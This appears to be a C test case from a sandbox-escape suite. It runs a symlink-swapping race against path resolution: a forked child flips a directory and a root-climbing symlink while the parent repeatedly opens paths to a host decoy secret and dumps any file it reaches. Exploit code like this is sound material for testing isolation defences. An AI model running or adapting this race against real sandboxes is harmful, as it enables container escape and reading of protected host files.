// The classic lookup race: one process flips /tmp/race/sub between a real
// directory and a symlink climbing to the host root, another opens
// /tmp/race/sub/<decoy's host path> and /tmp/race/sub/../../../decoy/secret
// as fast as it can, for 2 s. A resolver that checks then walks would, in
// some window, follow the symlink out.
#include <signal.h>
#include <sys/wait.h>

#include "attack.h"

int main(void) {
  announce();
  const char* decoy = host("ESC_DECOY");
  char via_link[8192];
  snprintf(via_link, sizeof via_link, "/tmp/race/sub%s", decoy);
  RAW2(SYS_mkdir, "/tmp/race", 0755);
  RAW2(SYS_mkdir, "/tmp/race/sub", 0755);
  RAW2(SYS_symlink, "../../../../../../../../../../..", "/tmp/race/link");
  long child = RAW0(SYS_fork);
  if (child == 0) {
    long end = now_ms() + 2000;
    while (now_ms() < end) {
      RAW2(SYS_rename, "/tmp/race/sub", "/tmp/race/dir");
      RAW2(SYS_rename, "/tmp/race/link", "/tmp/race/sub");
      RAW2(SYS_rename, "/tmp/race/sub", "/tmp/race/link");
      RAW2(SYS_rename, "/tmp/race/dir", "/tmp/race/sub");
    }
    RAW1(SYS_exit, 0);
  }
  step("fork_flipper", child);
  long end = now_ms() + 2000, tries = 0, opened = 0;
  while (now_ms() < end) {
    const char* paths[] = {via_link, "/tmp/race/sub/../../../decoy/secret",
                           "/tmp/race/sub/../../../../../../../decoy/secret"};
    for (int i = 0; i < 3; ++i) {
      long fd = RAW4(SYS_openat, AT_FDCWD, paths[i], O_RDONLY, 0);
      ++tries;
      if (fd >= 0) {
        ++opened;
        dump_fd("race_open", fd);
      }
    }
  }
  int st = 0;
  wait4(child, &st, 0, NULL);
  out("INFO tries=%ld\n", tries);
  step("race_tries_many", tries > 20 ? 0 : -EAGAIN);
  step("race_opened", opened);
  return done();
}
